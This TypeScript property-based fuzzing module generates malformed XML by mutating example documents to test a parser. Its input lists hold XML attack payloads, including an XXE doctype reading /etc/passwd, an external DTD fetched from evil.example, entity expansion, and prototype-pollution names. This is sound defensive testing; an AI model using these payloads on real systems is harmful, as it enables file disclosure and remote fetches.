import fc from 'fast-check';
import { documentExample } from '../document-format.ts';
import { attackElements, attackTexts, examples } from './attacks.ts';

type Mutation = (xml: string, place: number, other: number) => string;

/** Ways in which a document can be broken, by accident or on purpose. */
const mutations: readonly Mutation[] = [
  (xml, place) => xml.slice(0, place),
  (xml, place) => xml.slice(place),
  (xml, place, other) => xml.slice(0, place) + xml.slice(place + (other % 40)),
  (xml, place, other) => insert(xml, place, xml.slice(other % xml.length).slice(0, 200)),
  swapTags,
  (xml, place) => replaceFrom(xml, place, /"/, ''),
  (xml, place) => replaceFrom(xml, place, />/, ''),
  (xml, place) => replaceFrom(xml, place, /<\/[\w-]+>/, ''),
  (xml, place) => replaceFrom(xml, place, /="[^"]*"/, ''),
  (xml, place) => replaceFrom(xml, place, / [\w-]+=/, ' at="1-2" at='),
  (xml, place, other) => replaceFrom(xml, place, /"[^"]*"/, `"${'x'.repeat((other * 97) % 200_000)}"`),
  (xml, place, other) => replaceFrom(xml, place, /"[^"]*"/, `"${picked(attackTexts, other).replace(/[&<"]/g, ' ')}"`),
  (xml, place, other) =>
    replaceFrom(xml, place, /<(?=[a-z])/, `<${picked(['x:', '-', '1', ' ', '\u00e9', '!', '?', '/'], other)}`),
  (xml, place, other) => insert(xml, place, picked(attackElements, other)),
  (xml, place, other) => insert(xml, place, picked(entities, other)),
  (xml, place, other) => insert(xml, place, picked(characters, other)),
  (xml, place, other) => insert(xml, place, picked(sections, other)),
  (xml, place, other) => insert(xml, place, '<p>'.repeat((other % 100_000) + 1)),
  (xml, place, other) => insert(xml, place, '<list><item>'.repeat((other % 300) + 1)),
  (xml, place, other) => insert(xml, place, '<em>'.repeat(other % 190) + '</em>'.repeat(other % 190)),
  (xml, place, other) => insert(xml, place, '<section id="a"/>'.repeat(other % 4_000)),
  (xml, place, other) => insert(xml, place, `<p ${'x="1" '.repeat(other % 1000)}/>`),
  (xml, place, other) =>
    insert(xml, place, `<p ${Array.from({ length: other % 100 }, (_, at) => `a${at}="1" `).join('')}/>`),
  (xml, _, other) => picked(doctypes, other) + xml,
];

const entities = [
  '&nbsp;',
  '&',
  '&#0;',
  '&#x110000;',
  '&#xD800;',
  '&lt',
  '&amp;amp;',
  '&#13;',
  '&xxe;',
  '&constructor;',
  '&__proto__;',
];
const characters = [
  '\u0000',
  '\u0001',
  '\u000b',
  '\ud800',
  '\udc00',
  '\ud83d',
  '\ufffe',
  '\uffff',
  '\u0085',
  '\u2028',
  '\ufeff',
  '\r',
];
const sections = [
  '<![CDATA[',
  ']]>',
  '<![CDATA[<script>]]>',
  '<!--',
  '-->',
  '<!-- -- -->',
  '<?php echo 1 ?>',
  '<?xml version="1.0"?>',
  '<?xml-stylesheet href="//evil.example/x.css"?>',
  '<!DOCTYPE p>',
  '<!ENTITY x "y">',
  '<x:p xmlns:x="urn:y">z</x:p>',
  '<p xmlns="http://www.w3.org/1999/xhtml" xmlns:__proto__="x">z</p>',
  '</content>',
  '<content>',
  '<document>',
];
const doctypes = [
  '<!DOCTYPE document SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE d [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;">]>',
  '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>',
  '<?xml version="1.0" encoding="UTF-16"?>',
  '<?xml version="2.0"?>',
  '\ufeff',
  ' ',
  'x',
];

/** Texts that are not, or barely, documents: the examples with up to four mutations. */
export const malformedXml: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...examples.map(({ xml }) => xml), documentExample),
    fc.array(fc.tuple(fc.constantFrom(...mutations), fc.nat(2_000_000), fc.nat(2_000_000)), {
      minLength: 1,
      maxLength: 4,
    }),
  )
  .map(([xml, steps]) =>
    steps.reduce((text, [mutate, place, other]) => mutate(text, place % (text.length + 1), other), xml),
  );

function insert(xml: string, place: number, text: string): string {
  return xml.slice(0, place) + text + xml.slice(place);
}

function replaceFrom(xml: string, place: number, pattern: RegExp, text: string): string {
  return xml.slice(0, place) + xml.slice(place).replace(pattern, () => text);
}

function picked(list: readonly string[], at: number): string {
  return list[at % list.length] ?? '';
}

/** Swaps the closing tags at two places. */
function swapTags(xml: string, place: number, other: number): string {
  const second = other % (xml.length + 1);
  const [from, to] = place < second ? [place, second] : [second, place];
  const tag = /<\/[\w-]+>/;
  const [left = ''] = tag.exec(xml.slice(from)) ?? [];
  const [right = ''] = tag.exec(xml.slice(to)) ?? [];
  return replaceFrom(replaceFrom(xml, to, tag, left), from, tag, right);
}
